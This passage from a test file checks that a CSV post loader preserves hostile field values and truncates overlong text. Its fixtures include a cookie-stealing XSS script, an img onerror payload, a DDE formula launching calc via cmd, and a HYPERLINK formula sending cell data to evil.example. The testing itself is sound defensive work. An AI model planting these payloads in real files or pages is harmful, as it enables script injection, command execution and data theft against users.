      `h3,flooder,2022-10-01T10:02:00Z,${huge}`,
      'h4,"<img src=x onerror=alert(1)>",2022-10-01T10:03:00Z,"+SUM(1,2) @admin"',
      '',
    ].join('\n');
    const { store, report } = await load([tempFile('hostile.csv', csv)], {
      mapping: parseMapping('id=id,account=author,time=time,text=body'),
    });
    assert.deepEqual([fileReport(report).rowsLoaded, fileReport(report).rowsRejected], [4, 0]);
    const post = byId(await posts(store));
    assert.equal(post('h1').text, '<script>alert(document.cookie)</script> #مهسا_امینی');
    assert.deepEqual(post('h1').hashtags, ['مهسا_امینی']);
    assert.equal(post('h2').account, "=cmd|' /C calc'!A0");
    assert.equal(post('h2').text, '=HYPERLINK("http://evil.example/?x="&A1,"click")');
    assert.equal(post('h4').account, '<img src=x onerror=alert(1)>');
    assert.equal(post('h4').text, '+SUM(1,2) @admin');
    const long = post('h3');
    assert.equal(long.text?.length, MAX_TEXT_CHARS);
    assert.equal(long.text, huge.slice(0, MAX_TEXT_CHARS));
    assert.deepEqual(long.hashtags, [], 'the hashtag past the cut is gone with the text');
  });
});
